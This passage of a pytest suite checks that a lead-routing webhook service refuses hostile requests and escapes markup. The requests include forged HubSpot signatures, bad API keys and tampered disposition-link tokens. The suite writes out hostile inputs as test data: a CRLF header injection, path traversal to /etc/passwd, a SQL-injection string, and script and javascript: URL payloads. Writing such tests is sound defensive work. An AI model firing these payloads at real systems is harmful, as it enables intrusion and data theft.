            lambda b: hubspot_signed(b, uri="https://attacker.example/webhooks/hubspot"),
            "does not match",
        ),
        ("v1-wrong", {"X-HubSpot-Signature": sign_v1("wrong", contact)}, "does not match"),
        (
            "v2-wrong",
            {
                "X-HubSpot-Signature": sign_v2("wrong", "POST", HUBSPOT_URI, contact),
                "X-HubSpot-Signature-Version": "v2",
            },
            "does not match",
        ),
        (
            "unknown-version",
            {"X-HubSpot-Signature": "x", "X-HubSpot-Signature-Version": "v9"},
            "is not v1, v2 or v3",
        ),
    ]:
        yield hubspot(f"auth-hubspot-{name}", contact, says, status=401, headers=headers)
    for name, path in [
        ("no-token", "/webhooks/salesforce"),
        ("wrong-token", "/webhooks/salesforce?token=wrong"),
        ("empty-token", "/webhooks/salesforce?token="),
        ("token-prefix", f"/webhooks/salesforce?token={SF_TOKEN[:-1]}"),
    ]:
        yield salesforce(f"auth-salesforce-{name}", outbound(), "token", status=401, path=path)
    yield salesforce(
        "auth-salesforce-org-not-allowed",
        outbound("00D5g000004ABCDEAZ", "00D000000000000AAA"),
        "not on the allowlist",
        status=401,
    )
    keys: list[tuple[str, dict[str, str]]] = [
        ("missing", {}),
        ("wrong", {"x-api-key": "wrong"}),
        ("empty", {"x-api-key": ""}),
        ("prefix", {"x-api-key": API_KEY[:-1]}),
        ("as-bearer", {"Authorization": f"Bearer {API_KEY}"}),
        ("crlf", {"x-api-key": API_KEY + "\r\nX-Admin: true"}),
    ]
    for name, headers in keys:
        yield param(f"auth-reps-{name}", Case("GET", "/reps", headers=headers, status=401, says="x-api-key"))
    for name, headers in keys[:4]:
        yield param(
            f"auth-get-lead-{name}",
            Case("GET", "/leads/{lead}", headers=headers, status=401, says="x-api-key"),
        )
    for name, headers in keys[:3]:
        yield dispose(
            f"auth-disposition-{name}",
            {"outcome": "connected"},
            "x-api-key",
            status=401,
            headers={"Content-Type": "application/json"} | headers,
        )
    yield param(
        "auth-reps-key-in-query", Case("GET", f"/reps?x-api-key={API_KEY}", status=401, says="x-api-key")
    )


def _swap_outcome(token: str) -> str:
    """The same signature over claims edited to another outcome."""
    version, payload, signature = token.split(".")
    claims = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    edited = base64.urlsafe_b64encode(json.dumps({**claims, "o": "disqualify"}).encode()).rstrip(b"=")
    return f"{version}.{edited.decode()}.{signature}"


LINK_TOKENS: list[tuple[str, Callable[[Ctx], str], int, str]] = [
    ("tampered-signature", lambda ctx: ctx.token()[:-4] + "AAAA", 403, "altered"),
    ("tampered-claims", lambda ctx: _swap_outcome(ctx.token()), 403, "altered"),
    ("signed-with-another-key", lambda ctx: ctx.token(key="not-the-link-key"), 403, "altered"),
    ("truncated", lambda ctx: ctx.token()[:40], 410, "incomplete or damaged"),
    ("expired", lambda ctx: ctx.token(now=utcnow() - timedelta(days=8)), 410, "expired"),
    ("another-reps", lambda ctx: ctx.token(rep_id="r2"), 410, "moved to another rep"),
    ("unknown-lead", lambda ctx: ctx.token(lead_id="ld_000000000000000000000000"), 410, "no longer exists"),
    ("random", lambda ctx: "Zm9vYmFyYmF6cXV4cXV1eGNvcmdlZ3JhdWx0", 410, "incomplete or damaged"),
    ("empty-parts", lambda ctx: "v1..", 403, "altered"),
    ("wrong-version", lambda ctx: "v2" + ctx.token()[2:], 410, "incomplete or damaged"),
    ("2000-chars", lambda ctx: "v1." + "A" * 2000 + ".sig", 410, "incomplete or damaged"),
    ("percent-encoded-junk", lambda ctx: "v1.%FF%00.%3Cscript%3E", 403, "altered"),
]


def link_tokens() -> Iterator[ParameterSet]:
    """One-click disposition links that must not work, on GET (confirm) and POST (record)."""
    for method in ("GET", "POST"):
        for name, token, status, says in LINK_TOKENS:
            yield link(f"link-{method.lower()}-{name}", method, token, status, says)
    yield link(
        "link-post-reason-not-listed",
        "POST",
        lambda ctx: ctx.token("disqualify"),
        400,
        "Pick one",
        body=b"reason=bored",
    )
    yield link(
        "link-post-reason-markup",
        "POST",
        lambda ctx: ctx.token("disqualify"),
        400,
        "Pick one",
        body=b"reason=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    )
    yield link(
        "link-post-6-form-fields",
        "POST",
        lambda ctx: ctx.token(),
        400,
        "",
        body=b"a=1&b=2&c=3&d=4&e=5&note=6",
        bug="POST /d/{token} with more than 5 form fields crashes (ValueError 'Max number of fields "
        "exceeded' from parse_qs(max_num_fields=5)) instead of a 400 page",
    )


def disposition_api() -> Iterator[ParameterSet]:
    """Outcomes, reasons and notes the API must refuse, and lead ids that name nothing."""
    for name, body, says in [
        ("unknown-outcome", {"outcome": "won"}, "outcome must be one of"),
        ("outcome-wrong-case", {"outcome": "Connected"}, "outcome must be one of"),
        ("outcome-with-nul", {"outcome": "connected\x00"}, "outcome must be one of"),
        ("outcome-empty", {"outcome": ""}, "outcome"),
        ("outcome-65-chars", {"outcome": "c" * 65}, "outcome"),
        ("outcome-number", {"outcome": 5}, "outcome"),
        ("outcome-missing", {"note": "called"}, "outcome"),
        (
            "unknown-reason",
            {"outcome": "disqualify", "reason": "bored"},
            "reason for disqualify must be one of",
        ),
        ("reason-missing", {"outcome": "recycle"}, "reason for recycle must be one of"),
        ("reason-markup", {"outcome": "recycle", "reason": SCRIPT}, "reason"),
        ("note-2001-chars", {"outcome": "connected", "note": "n" * 2001}, "note"),
        ("by-257-chars", {"outcome": "connected", "by": "b" * 257}, "by"),
        ("rep-id-65-chars", {"outcome": "connected", "rep_id": "r" * 65}, "rep_id"),
        ("mass-assignment-status", {"outcome": "connected", "status": "closed"}, "status"),
    ]:
        yield dispose(f"disposition-{name}", body, says)
    ok = {"outcome": "connected"}
    for name, lead_id in [
        ("unknown-lead", "ld_000000000000000000000000"),
        ("path-traversal", "..%2F..%2Fetc%2Fpasswd"),
        ("dot-dot", ".."),
        ("5000-chars", "x" * 5000),
        ("unicode", "ld_\u2603\u202e"),
        ("nul", "ld_%00"),
        ("injection", "ld_x' OR '1'='1"),
    ]:
        yield dispose(
            f"disposition-lead-id-{name}",
            ok,
            ("not found", "no such route"),
            status=404,
            path=f"/leads/{lead_id}/disposition",
        )
    for name, lead_id in [
        ("unknown", "ld_000000000000000000000000"),
        ("path-traversal", "..%2F..%2Fetc%2Fpasswd"),
        ("5000-chars", "x" * 5000),
        ("unicode", "ld_\u2603"),
    ]:
        yield param(
            f"get-lead-id-{name}",
            Case(
                "GET",
                f"/leads/{lead_id}",
                headers=with_key(),
                status=404,
                says=("not found", "no such route"),
            ),
        )


def unrouted() -> Iterator[ParameterSet]:
    """Methods and paths no route serves, should they reach a function."""
    for function, method, path in [
        (QUALIFY, "POST", "/health"),
        (QUALIFY, "DELETE", "/leads/{lead}"),
        (QUALIFY, "PUT", "/reps"),
        (QUALIFY, "GET", "/webhooks/generic"),
        (DISPOSITION, "GET", "/leads/{lead}/disposition"),
        (DISPOSITION, "DELETE", "/d/x"),
    ]:
        case_id = f"route-{method.lower()}-{path.strip('/').replace('/', '-').replace('{lead}', 'lead')}"
        yield param(
            case_id, Case(method, path, status=(404, 405), says=("no such route", "not"), function=function)
        )


CORPUS = [
    *json_syntax(),
    *non_finite_and_huge_numbers(),
    *wrong_types(),
    *sizes(),
    *xml_attacks(),
    *invalid_utf8(),
    *headers_and_content_types(),
    *bad_auth(),
    *link_tokens(),
    *disposition_api(),
    *unrouted(),
]


# --- the tests -----------------------------------------------------------------------------------


@pytest.fixture
def stack(aws: Aws, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Aws:
    """The test stack, with an SLA long enough that a parked lead stays quiet during a case."""
    use_config(
        monkeypatch, tmp_path / "calm.toml", **{"hot = 2\n": "hot = 600\n", "warm = 30\n": "warm = 600\n"}
    )
    # Import both API functions now, so a cold import is not timed as the first request.
    lambdas.load_handler(QUALIFY)
    lambdas.load_handler(DISPOSITION)
    return aws


def notified_lead(aws: Aws) -> str:
    """A hot lead routed to r1, briefed, and parked waiting for its first touch."""
    aws.put_reps(rep("r1"), rep("r2", capacity=0))
    status, body = aws.post_lead(LEAD)
    assert status == 202, body
    aws.wait_for_event(body["lead_id"], "waiting")
    return str(body["lead_id"])


@pytest.mark.parametrize("case", CORPUS)
def test_hostile_request_is_refused_fast_and_writes_nothing(stack: Aws, case: Case) -> None:
    ctx = Ctx(notified_lead(stack)) if case.needs_lead else Ctx()
    before = snapshot(stack, ctx.lead_id)
    answer = send(case, ctx)
    assert answer.status < 500, f"{answer.status} {answer.text[:300]}"
    assert answer.seconds < FAST
    assert_clear_refusal(case, answer)
    assert snapshot(stack, ctx.lead_id) == before


# Markup in every text field of a canonical lead. A signed lead carrying it may be
# accepted: text is data, stored as sent and escaped wherever it is shown.
MARKUP_TEXT_FIELDS = (
    "contact.first_name",
    "contact.last_name",
    "contact.title",
    "contact.department",
    "contact.seniority",
    "contact.phone",
    "company.name",
    "company.industry",
    "crm.record_id",
    "trigger.name",
    "activities.0.title",
    "activities.1.title",
    "source",
    "contact.notes",  # an unknown field, kept as an extra
)
MARKUP = [
    *(pytest.param(d, SCRIPT, id=f"markup-script-{d}") for d in MARKUP_TEXT_FIELDS),
    *(
        pytest.param(d, JS_URL, id=f"markup-js-url-{d}")
        for d in ("trigger.url", "activities.0.url", "crm.record_url", "company.domain", "contact.first_name")
    ),
    pytest.param("trigger.url", "JaVaScRiPt:alert(1)", id="markup-js-url-mixed-case-trigger.url"),
    pytest.param(
        "trigger.url",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        id="markup-data-url-trigger.url",
    ),
    pytest.param(
        "crm.record_url", f'https://crm.example/">{SCRIPT}', id="markup-attribute-breakout-crm.record_url"
    ),
]
JS_HREF = re.compile(r"""href\s*=\s*["']?\s*(javascript|data|vbscript):""", re.IGNORECASE)


def html_parts(aws: Aws) -> list[str]:
    parts = []
    for sent in aws.sent_emails():
        message = email.message_from_string(sent.raw_data, policy=email.policy.default)
        parts += [p.get_content() for p in message.walk() if p.get_content_type() == "text/html"]
    return parts


@pytest.mark.parametrize(("dotted", "payload"), MARKUP)
def test_markup_in_lead_text_is_stored_as_data_and_escaped_on_output(
    stack: Aws, dotted: str, payload: str
) -> None:
    stack.put_reps(rep("r1"))
    case = Case("POST", "/webhooks/generic", dumps(lead_with(dotted, payload)), generic_signed, status=400)
    answer = send(case, Ctx())
    assert answer.status < 500, answer.text[:300]
    assert answer.seconds < FAST
    if answer.status >= 400:  # refusing markup is allowed too, as long as it is a clear refusal
        assert_clear_refusal(case, answer)
        assert stack.leads_count() == 0
        return
    lead_id = json.loads(answer.text)["lead_id"]
    assert dig(stack.get_lead(lead_id), dotted) == payload  # stored as sent, not stripped or run
    if answer.status == 202:
        stack.wait_for_event(lead_id, "waiting")
        assert html_parts(stack), "a routed lead gets a brief"
    for html in html_parts(stack):
        assert SCRIPT not in html and "<script" not in html.lower()
        assert not JS_HREF.search(html), "a script URL must never become a link"
        if SCRIPT in payload and "alert(1)" in html:
            assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # shown, escaped
    if answer.status == 202:
        token = stack.brief_links("r1@example.com")["Connected"]
        page = send(Case("GET", f"/d/{token}"), Ctx(lead_id))
        assert page.status == 200 and "<script" not in page.text.lower()
